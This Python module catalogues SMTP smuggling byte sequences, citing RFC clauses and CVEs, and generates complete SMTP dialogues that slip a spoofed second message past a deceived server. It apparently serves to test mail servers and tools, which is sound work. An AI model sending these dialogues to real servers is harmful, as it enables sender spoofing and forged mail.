r"""The catalogue of line ends and end marks on which servers disagree: SMTP smuggling.

Where one server sees the end of a message and the one before it did not, whoever wrote the
message has written commands too, in the name of the first server. Each `Variant` is one such
sequence; `smuggle` writes it into a dialogue that a server splits in two if it is deceived.

A server that keeps to RFC 5321 sees one message in each of these dialogues, or refuses it;
`CONTROL` alone is two, for every server that takes commands that follow the content at once.
Behind a command line or a BDAT line that is refused it is not laid down where a server finds
the next one, so envelopes may differ there.
"""

import enum
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from types import MappingProxyType

__all__ = ["CONTROL", "EMBEDDED", "OUTER", "VARIANTS", "Letter", "Place", "Variant", "smuggle"]


class Place(enum.Enum):
    """Where in a dialogue the octets of a variant stand."""

    CONTENT = "in content behind DATA, where they may be taken for its end"
    START = "first in content behind DATA, where they may be taken for its end"
    CHUNK = "in a chunk of BDAT, where octets mean nothing"
    CHUNK_LINE = "instead of a BDAT line; who does not understand it may take the chunk for commands"
    CHUNK_EARLY = "as CHUNK_LINE, before there is a mail transaction"
    MIX = "behind a chunk of BDAT; what follows is a message for some and commands for others"
    COMMAND = "in a command line, where they may be taken for its end"

    __hash__ = object.__hash__


@dataclass(frozen=True, slots=True)
class Variant:
    """One way to be taken for the end of something."""

    name: str
    """A short and stable name."""

    place: Place

    octets: bytes
    """What stands at that place; `%d` in a BDAT line is the size of the chunk."""

    clause: str
    """What forbids it, or forbids taking it for an end."""

    about: str
    """What it is, and who is deceived by it."""

    found: tuple[str, ...] = ()
    """Where it was reported: CVE numbers and publications. Empty: made up here from the clause."""


@dataclass(frozen=True, slots=True)
class Letter:
    """A message and its envelope, as sent; the content ends without a line end."""

    sender: bytes
    recipients: tuple[bytes, ...]
    content: bytes


OUTER = Letter(b"a@one.example", (b"b@two.example",), b"Subject: outer\r\n\r\nouter")
"""The message that the client is known to send."""

EMBEDDED = Letter(b"c@three.example", (b"b@two.example",), b"Subject: embedded\r\n\r\nembedded")
"""The message that only a deceived server sees."""

_SEC = "SEC Consult, SMTP Smuggling, 2023"
_SMTPSMUG = "github.com/hannob/smtpsmug"
_SCANNER = "github.com/The-Login/SMTP-Smuggling-Tools"
_BARE = "RFC 5321 2.3.8"
_END = "RFC 5321 4.1.1.4"
_DOTS = "RFC 5321 4.5.2"
_LONG = "RFC 5321 4.5.3.1.6"
_CHUNKS = "RFC 3030 2"

CONTROL = Variant("crlf-dot-crlf", Place.CONTENT, b"\r\n.\r\n", _END, "The end mark itself: two messages.")
"""What a test of a tool begins with: if this gives no second message, nothing will."""


def _long(size: int) -> Variant:
    return Variant(
        f"cut-at-{size}",
        Place.CONTENT,
        b"\r\n" + b"x" * size + b".\r\n",
        _LONG,
        f"A dot at the end of a long line, which stands alone if the line is cut behind {size} octets.",
    )


def _separator(name: str, octets: bytes, about: str) -> Variant:
    return Variant(f"{name}-dot-{name}", Place.CONTENT, octets + b"." + octets, _BARE, about)


_LIST = (
    # Bare CR and LF around the dot
    Variant(
        "lf-dot-crlf", Place.CONTENT, b"\n.\r\n", _BARE, "A bare LF before the dot: the published attack.",
        ("CVE-2023-51764", "CVE-2023-51765", "CVE-2023-51766", "CVE-2023-51747", "CVE-2024-27305", _SEC),
    ),
    Variant(
        "lf-dot-lf", Place.CONTENT, b"\n.\n", _BARE, "Line ends of Unix; servers that read text files take them.",
        ("CVE-2023-51747", _SEC, _SMTPSMUG),
    ),
    Variant("crlf-dot-lf", Place.CONTENT, b"\r\n.\n", _END, "A bare LF behind the dot.", (_SMTPSMUG,)),
    Variant(
        "cr-dot-cr", Place.CONTENT, b"\r.\r", _BARE, "Bare CRs, which a gateway that cleans line ends makes CRLF.",
        (_SEC, _SMTPSMUG),
    ),
    Variant("cr-dot-crlf", Place.CONTENT, b"\r.\r\n", _BARE, "A bare CR before the dot.", (_SMTPSMUG, _SCANNER)),
    Variant("crlf-dot-cr", Place.CONTENT, b"\r\n.\r", _END, "A bare CR behind the dot.", (_SMTPSMUG,)),
    Variant("cr-dot-lf", Place.CONTENT, b"\r.\n", _BARE, "CR and LF with the dot between.", (_SMTPSMUG, _SCANNER)),
    Variant("lf-dot-cr", Place.CONTENT, b"\n.\r", _BARE, "LF and CR with the dot between.", (_SMTPSMUG, _SCANNER)),
    Variant("lf-lf-dot-crlf", Place.CONTENT, b"\n\n.\r\n", _BARE, "An empty line of Unix before the dot."),
    Variant("lfcr-dot-lfcr", Place.CONTENT, b"\n\r.\n\r", _BARE, "CRLF the wrong way round."),
    Variant("start-dot-lf", Place.START, b".\n", _END, "The dot is the first line, and ends in a bare LF."),
    Variant("start-dot-cr", Place.START, b".\r", _END, "The dot is the first line, and ends in a bare CR."),
    Variant("start-lf-dot-crlf", Place.START, b"\n.\r\n", _BARE, "A bare LF is the first octet behind the DATA line."),
    # More CRs than one, which some servers drop. CR CR LF . CR LF is missing: a CRLF . CRLF is in it
    Variant(
        "crlf-dot-crcrlf", Place.CONTENT, b"\r\n.\r\r\n", _END, "CR CR LF behind the dot; several CRs are taken for one.",
        (_SCANNER + "/pull/4", "Postfix before 3.9-20240106"),
    ),
    Variant(
        "crcrlf-dot-crcrlf", Place.CONTENT, b"\r\r\n.\r\r\n", _BARE, "CR CR LF on both sides.", (_SCANNER + "/pull/4",)
    ),
    # Octets that some readers drop or end a string at
    Variant(
        "crlf-nul-dot-crlf", Place.CONTENT, b"\r\n\x00.\r\n", _END, "NUL before the dot, dropped by readers of C strings.",
        (_SMTPSMUG, _SCANNER),
    ),
    Variant(
        "crlf-dot-nul-crlf", Place.CONTENT, b"\r\n.\x00\r\n", _END, "NUL behind the dot.",
        ("github.com/suuhm/smtp_smuggling_checker.py",),
    ),
    Variant(
        "crlf-nul-dot-lf", Place.CONTENT, b"\r\n\x00.\n", _END, "NUL before the dot, a bare LF behind it.",
        ("github.com/suuhm/smtp_smuggling_checker.py",),
    ),
    Variant("cr-nul-lf-dot-crlf", Place.CONTENT, b"\r\x00\n.\r\n", _BARE, "NUL inside the CRLF before the dot."),
    Variant("crlf-dot-cr-nul-lf", Place.CONTENT, b"\r\n.\r\x00\n", _END, "NUL inside the CRLF behind the dot."),
    Variant("crlf-bs-dot-crlf", Place.CONTENT, b"\r\nx\x08.\r\n", _END, "A backspace that takes away what is before it."),
    # What is a line end for others: Python's str.splitlines, Unicode, EBCDIC
    _separator("vt", b"\x0b", "Vertical tabs, line ends for str.splitlines."),
    _separator("ff", b"\x0c", "Form feeds, line ends for str.splitlines."),
    _separator("rs", b"\x1e", "Record separators, line ends for str.splitlines."),
    _separator("nel", b"\x85", "NEL of ISO 8859-1 and EBCDIC gateways."),
    _separator("nel-utf8", b"\xc2\x85", "NEL in UTF-8, a line end for str.splitlines."),
    _separator("ls", b"\xe2\x80\xa8", "LINE SEPARATOR in UTF-8, a line end for str.splitlines."),
    _separator("wide-lf", b"\xc4\x8a", "U+010A, which is LF where characters are cut to eight bits."),
    # More on the line than the dot
    Variant("crlf-dot-space-crlf", Place.CONTENT, b"\r\n. \r\n", _DOTS, "A blank behind the dot, for who trims lines."),
    Variant("crlf-dot-tab-crlf", Place.CONTENT, b"\r\n.\t\r\n", _DOTS, "A tab behind the dot, for who trims lines."),
    Variant("crlf-space-dot-crlf", Place.CONTENT, b"\r\n .\r\n", _DOTS, "A blank before the dot, for who trims lines."),
    Variant("crlf-dot-dot-crlf", Place.CONTENT, b"\r\n..\r\n", _DOTS, "A stuffed dot, for who removes it before he looks."),
    Variant("lf-dot-dot-crlf", Place.CONTENT, b"\n..\r\n", _DOTS, "A dot that is stuffed behind a bare LF."),
    Variant("crlf-dot-dot-lf", Place.CONTENT, b"\r\n..\n", _DOTS, "A stuffed dot before a bare LF."),
    Variant("crlf-dot-lf-dot-crlf", Place.CONTENT, b"\r\n.\n.\r\n", _DOTS, "Two dots, a bare LF between."),
    Variant("crlf-dot-cr-dot-crlf", Place.CONTENT, b"\r\n.\r.\r\n", _DOTS, "Two dots, a bare CR between."),
    *map(_long, (998, 1000, 1024, 2048, 4096, 8192)),
    # BDAT
    Variant(
        "chunk-crlf-dot-crlf", Place.CHUNK, b"\r\n.\r\n", _CHUNKS, "The end mark of DATA in a chunk, where it is content."
    ),
    Variant("chunk-lf-dot-lf", Place.CHUNK, b"\n.\n", _CHUNKS, "The end mark of Unix in a chunk."),
    Variant("chunk-line-lf", Place.CHUNK_LINE, b"BDAT %d LAST\n", _BARE, "A BDAT line that ends in a bare LF."),
    Variant("chunk-line-crcrlf", Place.CHUNK_LINE, b"BDAT %d LAST\r\r\n", _BARE, "A BDAT line that ends in CR CR LF."),
    Variant("chunk-line-tab", Place.CHUNK_LINE, b"BDAT\t%d LAST\r\n", _CHUNKS, "A BDAT line with a tab for the blank."),
    Variant("chunk-line-sign", Place.CHUNK_LINE, b"BDAT +%d LAST\r\n", _CHUNKS, "A chunk size with a sign."),
    Variant("chunk-line-zeros", Place.CHUNK_LINE, b"BDAT 0000%d LAST\r\n", _CHUNKS, "A chunk size that is octal for some."),
    Variant("chunk-line-word", Place.CHUNK_LINE, b"BDAT %d LAST NOW\r\n", _CHUNKS, "A BDAT line with a word too many."),
    Variant(
        "chunk-early", Place.CHUNK_EARLY, b"BDAT %d LAST\r\n", _CHUNKS,
        "A chunk without a mail transaction: the line is refused, but its octets are still no commands.",
    ),
    Variant(
        "data-after-chunk", Place.MIX, b"DATA\r\n", _CHUNKS, "DATA in a transaction that has begun with BDAT: to be refused."
    ),
    # Command lines
    Variant("command-lf", Place.COMMAND, b"\n", _BARE, "A bare LF in a command line."),
    Variant("command-cr", Place.COMMAND, b"\r", _BARE, "A bare CR in a command line."),
    Variant("command-crcrlf", Place.COMMAND, b"\r\r\n", _BARE, "CR CR LF in a command line."),
    Variant("command-nul", Place.COMMAND, b"\x00\n", _BARE, "NUL and a bare LF in a command line."),
    Variant("command-long", Place.COMMAND, b" " + b"x" * 4096, "RFC 5321 4.5.3.1.4", "A command line to be cut at a limit."),
)  # fmt: skip

VARIANTS: Mapping[str, Variant] = MappingProxyType({variant.name: variant for variant in _LIST})
"""All variants, by their names."""


def smuggle(variant: Variant, outer: Letter = OUTER, embedded: Letter = EMBEDDED) -> list[bytes]:
    """A dialogue that sends `outer`, with `embedded` in it for a server that is deceived.

    Each element is one write; a client waits for the reply before the next. Empty elements
    stand for nothing and do not occur.
    """
    return [b"EHLO client.example\r\n", *_WRITES[variant.place](variant, outer, embedded), b"QUIT\r\n"]


def _envelope(letter: Letter) -> list[bytes]:
    return [b"MAIL FROM:<%b>\r\n" % letter.sender, *(b"RCPT TO:<%b>\r\n" % each for each in letter.recipients)]


def _commands(letter: Letter) -> bytes:
    """The whole letter as commands, in one write."""
    return b"".join([*_envelope(letter), b"DATA\r\n", letter.content, b"\r\n.\r\n"])


def _in_content(variant: Variant, outer: Letter, embedded: Letter) -> list[bytes]:
    return [*_envelope(outer), b"DATA\r\n", outer.content + variant.octets + _commands(embedded)]


def _at_start(variant: Variant, outer: Letter, embedded: Letter) -> list[bytes]:
    return [*_envelope(outer), b"DATA\r\n", variant.octets + _commands(embedded)]


def _in_chunk(variant: Variant, outer: Letter, embedded: Letter) -> list[bytes]:
    chunk = outer.content + variant.octets + _commands(embedded)
    return [*_envelope(outer), b"BDAT %d LAST\r\n" % len(chunk) + chunk]


def _chunk_of_commands(variant: Variant, embedded: Letter) -> bytes:
    chunk = b"RSET\r\n" + _commands(embedded)
    return variant.octets % len(chunk) + chunk


def _as_chunk_line(variant: Variant, outer: Letter, embedded: Letter) -> list[bytes]:
    return [*_envelope(outer), _chunk_of_commands(variant, embedded)]


def _as_early_chunk(variant: Variant, outer: Letter, embedded: Letter) -> list[bytes]:
    return [_chunk_of_commands(variant, embedded), _commands(outer)]


def _behind_chunk(variant: Variant, outer: Letter, embedded: Letter) -> list[bytes]:
    chunk = outer.content + b"\r\n"
    mixed = variant.octets + b"RSET\r\n" + _commands(embedded)
    return [*_envelope(outer), b"BDAT %d\r\n" % len(chunk) + chunk, mixed]


def _in_command(variant: Variant, outer: Letter, embedded: Letter) -> list[bytes]:
    behind = b"".join(_envelope(embedded)[1:])
    return [*_envelope(outer), b"NOOP" + variant.octets + behind, b"DATA\r\n", outer.content + b"\r\n.\r\n"]


_WRITES: Mapping[Place, Callable[[Variant, Letter, Letter], list[bytes]]] = {
    Place.CONTENT: _in_content,
    Place.START: _at_start,
    Place.CHUNK: _in_chunk,
    Place.CHUNK_LINE: _as_chunk_line,
    Place.CHUNK_EARLY: _as_early_chunk,
    Place.MIX: _behind_chunk,
    Place.COMMAND: _in_command,
}
